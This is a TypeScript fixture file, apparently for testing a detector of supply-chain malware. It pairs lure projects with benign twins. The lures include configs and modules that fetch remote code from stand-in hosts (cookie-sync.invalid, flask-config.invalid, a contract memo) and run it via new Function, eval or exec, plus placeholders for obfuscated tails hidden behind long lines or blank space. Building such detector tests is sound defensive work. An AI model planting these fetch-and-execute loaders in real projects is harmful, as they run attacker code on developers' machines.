// Inert fixtures: shapes of documented lures, reserved hosts, payloads that do nothing.
import type { TechniqueFixture } from '../fixture.ts';
import { obfuscatedLine, shuffleCipherTail } from '../shapes.ts';

const NEXT =
  '{"name":"market","scripts":{"dev":"next dev","build":"next build"},"dependencies":{"next":"14","react":"18"}}';
const VITE =
  '{"name":"market","scripts":{"dev":"vite","build":"vite build"},"dependencies":{"react":"18"},"devDependencies":{"vite":"5","@vitejs/plugin-react":"4"}}';
const TAILWIND =
  "/** @type {import('tailwindcss').Config} */\nmodule.exports = {\n  content: ['./index.html', './src/**/*.{js,ts,jsx,tsx}'],\n  theme: { extend: {} },\n  plugins: [],\n};\n";

const fixtures: readonly TechniqueFixture[] = [
  {
    id: 'C03',
    title: 'a 91,000-character line before a tiny next config',
    lure: {
      files: {
        'package.json': NEXT,
        'next.config.js': `${obfuscatedLine(91_000, 11)}\n/** @type {import('next').NextConfig} */\nconst nextConfig = { reactStrictMode: true };\nmodule.exports = nextConfig;\n`,
        'pages/index.jsx': 'export default () => <h1>Market</h1>;\n',
      },
    },
    expect: {
      level: 'malicious',
      file: 'next.config.js',
      tradecraft: ['T16', 'T17', 'T53'],
      via: ['next.config.js'],
    },
    twin: {
      files: {
        'package.json': NEXT,
        'next.config.js': `const csp = "${"script-src 'self' https://cdn.example; ".repeat(60)}";\nmodule.exports = { async headers() { return [{ source: '/(.*)', headers: [{ key: 'Content-Security-Policy', value: csp }] }]; } };\n`,
      },
      why: 'a long security policy in a config',
    },
  },
  {
    id: 'C07',
    title: 'vite config requires a loader from public',
    lure: {
      files: {
        'package.json': VITE,
        'vite.config.js':
          "import { defineConfig } from 'vite';\nimport react from '@vitejs/plugin-react';\nimport { createRequire } from 'node:module';\nconst require = createRequire(import.meta.url);\nrequire('./public/vite.cookie');\nexport default defineConfig({ plugins: [react()] });\n",
        'public/vite.cookie':
          "const axios = require('axios');\n(async () => {\n  const { data } = await axios.get('https://cookie-sync.invalid/api');\n  new Function('require', data.cookie)(require);\n})();\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'public/vite.cookie',
      tradecraft: ['T18', 'T26'],
      via: ['package.json', 'vite.config.js', 'public/vite.cookie'],
      indicators: ['cookie-sync.invalid'],
    },
    twin: {
      files: {
        'package.json': VITE,
        'vite.config.js':
          "import { defineConfig } from 'vite';\nimport react from '@vitejs/plugin-react';\nimport sitemap from './scripts/sitemap.js';\nexport default defineConfig({ plugins: [react(), sitemap()] });\n",
        'scripts/sitemap.js':
          "import { readFileSync, writeFileSync } from 'node:fs';\nexport default () => ({ name: 'sitemap', closeBundle() { writeFileSync('dist/sitemap.xml', readFileSync('routes.json', 'utf8')); } });\n",
      },
      why: 'a local vite plugin',
    },
  },
  {
    id: 'C08',
    title: 'vite config calls a function of a listed malicious dependency',
    lure: {
      files: {
        'package.json':
          '{"name":"market","scripts":{"dev":"vite"},"dependencies":{"react":"18","cdn-icon-fetch":"^1.0.2"},"devDependencies":{"vite":"5"}}',
        'vite.config.js':
          "import { defineConfig } from 'vite';\nimport { fetchIcon } from 'cdn-icon-fetch';\nfetchIcon('77');\nexport default defineConfig({});\n",
      },
    },
    expect: { level: 'malicious', file: 'package.json', tradecraft: ['T19', 'T36'] },
    twin: {
      files: {
        'package.json':
          '{"name":"market","scripts":{"dev":"vite"},"dependencies":{"react":"18"},"devDependencies":{"vite":"5","vite-plugin-svgr":"4"}}',
        'vite.config.js':
          "import { defineConfig } from 'vite';\nimport svgr from 'vite-plugin-svgr';\nexport default defineConfig({ plugins: [svgr()] });\n",
      },
      why: 'an ordinary plugin',
    },
  },
  {
    id: 'C11',
    title: 'shuffle cipher behind 380 blanks at the end of tailwind and postcss configs',
    lure: {
      files: {
        'package.json': VITE,
        'tailwind.config.js': `${TAILWIND.trimEnd()}${' '.repeat(380)}${shuffleCipherTail()}\n`,
        'postcss.config.mjs': 'export default { plugins: { tailwindcss: {}, autoprefixer: {} } };\n',
      },
    },
    expect: { level: 'malicious', file: 'tailwind.config.js', tradecraft: ['T16', 'T51', 'T52'] },
    twin: {
      files: {
        'package.json': VITE,
        'tailwind.config.js': TAILWIND,
        'postcss.config.mjs': 'export default { plugins: { tailwindcss: {}, autoprefixer: {} } };\n',
      },
      why: 'the ordinary files',
    },
  },
  {
    id: 'C17',
    title: 'hardhat config imports a task that evaluates a contract reply',
    lure: {
      files: {
        'package.json':
          '{"name":"contracts","scripts":{"compile":"hardhat compile","test":"hardhat test"},"devDependencies":{"hardhat":"2","ethers":"6"}}',
        'hardhat.config.ts':
          "import { HardhatUserConfig } from 'hardhat/config';\nimport './tasks/accounts';\nconst config: HardhatUserConfig = { solidity: '0.8.20' };\nexport default config;\n",
        'tasks/accounts.ts':
          "import { ethers } from 'ethers';\nconst provider = new ethers.JsonRpcProvider('https://rpc.example/bsc');\nconst memo = new ethers.Contract('0x0000000000000000000000000000000000000001', ['function getMemo() view returns (string)'], provider);\nmemo.getMemo().then((text: string) => eval(Buffer.from(text, 'hex').toString()));\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'tasks/accounts.ts',
      tradecraft: ['T62', 'T63', 'T26'],
      via: ['hardhat.config.ts', 'tasks/accounts.ts'],
    },
    twin: {
      files: {
        'package.json':
          '{"name":"contracts","scripts":{"compile":"hardhat compile"},"devDependencies":{"hardhat":"2"}}',
        'hardhat.config.ts':
          "import { HardhatUserConfig, task } from 'hardhat/config';\ntask('accounts', 'Prints accounts', async (_, hre) => { for (const a of await hre.ethers.getSigners()) console.log(a.address); });\nconst config: HardhatUserConfig = { solidity: '0.8.20', networks: { dev: { url: process.env.RPC_URL ?? 'http://127.0.0.1:8545' } } };\nexport default config;\n",
      },
      why: 'the usual sample task',
    },
  },
  {
    id: 'C13',
    title: 'Python back end that runs the answer of a request when imported',
    lure: {
      files: {
        'requirements.txt': 'flask\nrequests\n',
        'app.py':
          "from flask import Flask\nfrom utils.settings import load\napp = Flask(__name__)\nload()\nif __name__ == '__main__':\n    app.run()\n",
        'utils/__init__.py': '',
        'utils/settings.py':
          "import base64\nimport requests\nURL = base64.b64decode('aHR0cHM6Ly9mbGFzay1jb25maWcuaW52YWxpZC9hcGk=').decode()\n\ndef load():\n    reply = requests.get(URL, timeout=10)\n    exec(reply.json()['content'])\n",
        Makefile: 'run:\n\tpython app.py\n',
      },
    },
    expect: {
      level: 'malicious',
      file: 'utils/settings.py',
      tradecraft: ['T26', 'T60', 'T14', 'T41'],
      indicators: ['flask-config.invalid'],
    },
    twin: {
      files: {
        'requirements.txt': 'flask\nrequests\n',
        'app.py':
          "import requests\nfrom flask import Flask\napp = Flask(__name__)\n\n@app.get('/rates')\ndef rates():\n    return requests.get('https://rates.example/v1').json()\n",
        'setup.py':
          "from setuptools import setup\nexec(open('src/version.py').read())\nsetup(name='demo', version=__version__)\n",
        'src/version.py': "__version__ = '1.0'\n",
      },
      why: 'version read by exec in setup.py',
    },
  },
];
export default fixtures;
